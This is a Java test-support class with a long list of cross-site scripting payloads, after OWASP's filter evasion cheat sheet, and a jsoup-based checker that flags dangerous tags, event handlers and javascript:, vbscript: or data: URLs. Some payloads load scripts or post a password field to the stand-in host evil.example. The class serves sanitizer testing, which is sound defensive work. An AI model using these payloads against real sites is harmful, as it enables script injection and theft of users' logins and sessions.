package assay.question.text;

import java.util.List;
import java.util.Locale;
import java.util.Set;
import java.util.regex.Pattern;
import java.util.stream.Stream;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Attribute;

/** Texts that do harm where they are shown as written, and what harm looks like. */
final class AttackSamples {
    /**
     * The classics, after the filter evasion cheat sheet of OWASP, and what made parsers disagree.
     */
    static final List<String> ATTACKS =
            List.of(
                    "<script>alert(1)</script>",
                    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
                    "<scr<script>ipt>alert(1)</scr</script>ipt>",
                    "<scr<form>ipt>alert(1)</scr</form>ipt>",
                    "<script/x>alert(1)</script\n>",
                    "<img src=x onerror=alert(1)>",
                    "<img src=x onerror=alert(1)//",
                    "<img src=\"javascript:alert(1)\">",
                    "<img src=\"https://x.example/a.png\" onload=\"alert(1)\" alt=x>",
                    "<IMG \"\"\"><SCRIPT>alert(1)</SCRIPT>\">",
                    "<img src=x:x onerror\n=alert(1)>",
                    "<img/src='x'/onerror=alert(1)>",
                    "<img src=\"data:image/svg+xml;base64,PHN2Zy8+\" alt=\"x\">",
                    "<a href=\"javascript:alert(1)\">x</a>",
                    "<a href=\" \u0001java\tscript:alert(1)\">x</a>",
                    "<a href=\"java&#10;script:alert(1)\">x</a>",
                    "<a href=\"&#106;avascript:alert(1)\">x</a>",
                    "<a href=\"JaVaScRiPt&colon;alert(1)\">x</a>",
                    "<a href=\"vbscript:msgbox(1)\">x</a>",
                    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
                    "<a href=\"https://ok.example\" href=\"javascript:alert(1)\">x</a>",
                    "<a href=\"javascript:alert(1)\" href=\"https://ok.example\">x</a>",
                    "<a href='https://ok.example' onclick='alert(1)' title=\"'>\">x</a>",
                    "<svg onload=alert(1)>",
                    "<svg><script>alert(1)</script></svg>",
                    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
                    "<svg><style><img src=x onerror=alert(1)></style></svg>",
                    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img"
                            + " src=1 onerror=alert(1)&gt;\">",
                    "<math href=\"javascript:alert(1)\"><mi"
                            + " xlink:href=\"javascript:alert(1)\">x</mi></math>",
                    "<math><annotation-xml"
                            + " encoding=\"text/html\"><script>alert(1)</script></annotation-xml></math>",
                    "<form><math><mtext></form><form><mglyph><style></math><img src"
                            + " onerror=alert(1)>",
                    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
                    "<textarea><img src=\"</textarea><img src=x onerror=alert(1)>\">",
                    "<title><img src=\"</title><img src=x onerror=alert(1)>\">",
                    "<xmp><p title=\"</xmp><svg/onload=alert(1)>\">",
                    "<!--><img src=x onerror=alert(1)>-->",
                    "<!-- --!><img src=x onerror=alert(1)> -->",
                    "<![CDATA[<img src=x onerror=alert(1)>]]>",
                    "<?xml version=\"1.0\"?><img src=x onerror=alert(1)>",
                    "<iframe src=\"javascript:alert(1)\"></iframe>",
                    "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\"></iframe>",
                    "<object data=\"https://evil.example\"></object><embed"
                            + " src=\"https://evil.example\">",
                    "<base href=\"https://evil.example/\"><a href=\"x\">x</a>",
                    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
                    "<link rel=stylesheet href=\"https://evil.example/x.css\">",
                    "<style>@import 'https://evil.example/x.css';</style>",
                    "<p style=\"background:url(javascript:alert(1))\">x</p>",
                    "<div style=\"position:fixed;top:0;left:0;width:100%;height:100%\">x</div>",
                    "<form action=\"https://evil.example\"><input name=password autofocus"
                            + " onfocus=alert(1)></form>",
                    "<button formaction=\"javascript:alert(1)\">x</button>",
                    "<details open ontoggle=alert(1)>x</details>",
                    "<video src=\"https://evil.example/x.mp4\" onerror=alert(1)></video>",
                    "<audio src=\"javascript:alert(1)\" autoplay></audio>",
                    "<video poster=\"javascript:alert(1)\"></video>",
                    "<body onload=alert(1)>",
                    "<marquee onstart=alert(1)>x</marquee>",
                    "<template><img src=x onerror=alert(1)></template>",
                    "<table background=\"javascript:alert(1)\"><tr><td>x</td></tr></table>",
                    "<p id=\"location\" name=\"cookie\">x</p>",
                    "<x-widget onconnected=\"alert(1)\">x</x-widget>",
                    "\\(<img src=x onerror=alert(1)>\\)",
                    "\\(<img src=x onerror=alert(1) title=\"\\)\">",
                    "$$<script>alert(1)</script>$$",
                    "<a title=\"\\(\" href=\"javascript:alert(1)\" x=\"\\)\">x</a>",
                    "<a title=\"$$\" onclick=\"alert(1)\" x=\"$$\">x</a>",
                    "\\[ <a title=\"\\]\" onmouseover=\"alert(1)\">x</a>",
                    "\uE0000\uE000<b title=\"\uE0000\uE000\">\\(\" onclick=\"alert(1)\\)</b>",
                    "[x](javascript:alert(1))",
                    "[x](JaVaScRiPt:alert(1))",
                    "[x](&#106;avascript:alert(1))",
                    "[x](javascript&colon;alert(1))",
                    "[x](java\\script:alert(1))",
                    "[x](<javascript:alert(1)>)",
                    "[x](<java&#10;script:alert(1)> \"title\")",
                    "[x](data:text/html;base64,PHNjcmlwdD4=)",
                    "[x][y]\n\n[y]: javascript:alert(1)\n",
                    "[y]\n\n> [y]:\n> javascript:alert(1)\n> 'title'\n",
                    "![x](javascript:alert(1))",
                    "![x](data:image/svg+xml;base64,PHN2Zy8+)",
                    "[![x](javascript:alert(1))](javascript:alert(2))",
                    "<javascript:alert(1)>",
                    "a *b <img src=x onerror=alert(1)> c*",
                    "> <div onclick=alert(1)>\n> text\n> </div>\n",
                    "- <img src=x onerror=alert(1)>\n- <script>\n  alert(1)\n  </script>\n",
                    "| a | b |\n| --- | --- |\n| `<img src=x onerror=alert(1)> | ` |\n",
                    "| a |\n| - |\n| [a](javascript:alert(1)) <svg/onload=alert(1)> |\n",
                    "<div\nonclick=alert(1)\n>x</div>",
                    "<div title='\n\n' onclick=alert(1)>\n\nx</div>");

    private static final Set<String> HARMFUL_ELEMENTS =
            Set.of(
                    "script",
                    "style",
                    "iframe",
                    "object",
                    "embed",
                    "form",
                    "input",
                    "button",
                    "textarea",
                    "select",
                    "base",
                    "meta",
                    "link",
                    "svg",
                    "template",
                    "frame",
                    "frameset",
                    "applet",
                    "noscript",
                    "title",
                    "xmp",
                    "marquee",
                    "mglyph",
                    "annotation-xml",
                    "x-widget");
    private static final Set<String> HARMFUL_ATTRIBUTES =
            Set.of(
                    "style",
                    "id",
                    "name",
                    "srcdoc",
                    "formaction",
                    "autoplay",
                    "background",
                    "xlink:href");
    private static final Set<String> ADDRESSES = Set.of("href", "poster", "src");
    private static final Pattern HARMFUL_ADDRESS =
            Pattern.compile(
                    "[\\x00-\\x20]*(j\\s*a\\s*v\\s*a|v\\s*b)\\s*s\\s*c\\s*r\\s*i\\s*p\\s*t\\s*:.*|[\\x00-\\x20]*data:.*");

    private AttackSamples() {}

    /** What would do harm if a browser showed this HTML; empty if nothing. */
    static List<String> harmIn(String html) {
        return Jsoup.parse(html).body().getAllElements().stream()
                .flatMap(element ->
                        Stream.concat(
                                Stream.of(element.normalName()).filter(HARMFUL_ELEMENTS::contains),
                                element.attributes().asList().stream()
                                        .filter(AttackSamples::isHarmful)
                                        .map(attribute ->
                                                element.normalName() + " " + attribute.html())))
                .toList();
    }

    private static boolean isHarmful(Attribute attribute) {
        var name = attribute.getKey().toLowerCase(Locale.ROOT);
        if (name.startsWith("on") || HARMFUL_ATTRIBUTES.contains(name)) {
            return true;
        }
        return ADDRESSES.contains(name)
                && HARMFUL_ADDRESS.matcher(attribute.getValue().toLowerCase(Locale.ROOT)).matches();
    }
}
